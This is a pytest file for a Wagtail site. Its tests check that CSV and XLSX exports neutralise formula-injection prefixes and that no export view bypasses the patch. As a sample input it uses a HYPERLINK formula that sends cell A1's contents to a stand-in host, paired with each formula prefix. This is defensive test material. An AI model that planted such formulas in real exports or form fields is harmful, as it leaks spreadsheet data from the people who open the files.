"""Exports are safe to open in a spreadsheet: every cell that would start a formula ("=", "+",
"-", "@", tab, carriage return) starts with an apostrophe instead (OWASP's rule against CSV
injection), in CSV and XLSX, in our exports and in Wagtail's reports; real numbers stay numbers.

The fix wraps Wagtail's SpreadsheetExportMixin (home.spreadsheets); the last tests fail when a
Wagtail upgrade lets cells past it."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from network_users import make_city_editor

from django.urls import get_resolver

from wagtail.admin.views.mixins import SpreadsheetExportMixin

from home import spreadsheets
from home.models import AssociationPage, MeetingPage, MeetingRegistration

pytestmark = pytest.mark.django_db

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
FORMULA = 'HYPERLINK("https://example.org/?leak="&A1,"Klick")'


@pytest.fixture
def city_client(client):
    client.force_login(make_city_editor())
    return client


def download(client, url, export_format, **params):
    response = client.get(url, {**params, "export": export_format})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    if export_format == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def column(rows, heading):
    index = rows[0].index(heading)
    return [row[index] for row in rows[1:]]


@pytest.fixture
def meeting():
    return MeetingPage.objects.get(slug="naechstes-vernetzungstreffen")


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_registrations_export_neutralises_each_formula_prefix(
    city_client, meeting, prefix, export_format
):
    MeetingRegistration.objects.create(
        meeting=meeting,
        name=prefix + FORMULA,
        association_name=prefix + "1+1",
        email="formel@example.org",
        people=3,
    )

    rows = download(city_client, "/admin/anmeldungen/", export_format, meeting=meeting.pk)

    [name] = column(rows, "Name")
    [association] = column(rows, "Verein")
    [people] = column(rows, "Personen")
    assert name == "'" + prefix + FORMULA
    assert association == "'" + prefix + "1+1"
    assert people == (3 if export_format == "xlsx" else "3")  # a number stays a number


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_harmless_text_and_dates_are_left_as_they_are(city_client, meeting, export_format):
    MeetingRegistration.objects.create(
        meeting=meeting, name="Ana 'Anni' Beispiel", email="ana@example.org"
    )

    rows = download(city_client, "/admin/anmeldungen/", export_format, meeting=meeting.pk)

    assert column(rows, "Name") == ["Ana 'Anni' Beispiel"]
    [created] = column(rows, "Eingegangen am")
    if export_format == "xlsx":
        assert isinstance(created, datetime.datetime)
    else:
        assert created[:1].isdigit()


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_wagtails_own_reports_are_neutralised_too(city_client, directory, export_format):
    # A page's title lands in the site history's "Name" column.
    page = AssociationPage(title="=" + FORMULA, slug="formel", short_description="Formel")
    directory.add_child(instance=page)
    page.save_revision(log_action=True)

    rows = download(city_client, "/admin/reports/site-history/", export_format)

    labels = [label for label in column(rows, "Name") if label and FORMULA in label]
    assert labels and all(label == "'=" + FORMULA for label in labels)


def test_the_neutraliser_keeps_real_numbers_and_prefixes_text():
    for value in (-5, -2.5, Decimal("-1.50"), 0, None, datetime.date(2021, 3, 24)):
        assert spreadsheets.neutralise(value) == value
    assert spreadsheets.neutralise("-5") == "'-5"  # text that looks like a number is still text
    assert spreadsheets.neutralise("Kein Problem") == "Kein Problem"


def test_headings_are_neutralised_too():
    class Export(SpreadsheetExportMixin):
        list_export = ["name"]
        export_headings = {"name": "=1+1"}

    assert Export().get_heading(MeetingRegistration.objects.none(), "name") == "'=1+1"


# The patch of Wagtail's mixin ---------------------------------------------------------------

# Where cells go past preprocess_field_value() and get_heading() into a file.
CELL_PATHS = (
    "preprocess_field_value",
    "get_heading",
    "write_csv_row",
    "generate_xlsx_row",
    "stream_csv",
    "write_xlsx",
)


def all_subclasses(cls):
    for subclass in cls.__subclasses__():
        yield subclass
        yield from all_subclasses(subclass)


def test_the_patch_is_installed_on_wagtails_mixin():
    for name in spreadsheets.WRAPPED_METHODS:
        assert getattr(getattr(SpreadsheetExportMixin, name), "neutralises_formulas", False), name


def test_no_export_view_routes_cells_around_the_patch():
    assert get_resolver().url_patterns  # imports every admin view, Wagtail's and ours
    overriding = [
        f"{view.__module__}.{view.__qualname__}.{name}"
        for view in all_subclasses(SpreadsheetExportMixin)
        for name in CELL_PATHS
        if name in vars(view)
    ]
    assert overriding == [], (
        "These export views write cells their own way; make them neutralise formulas "
        "(home.spreadsheets) before allowing them here."
    )
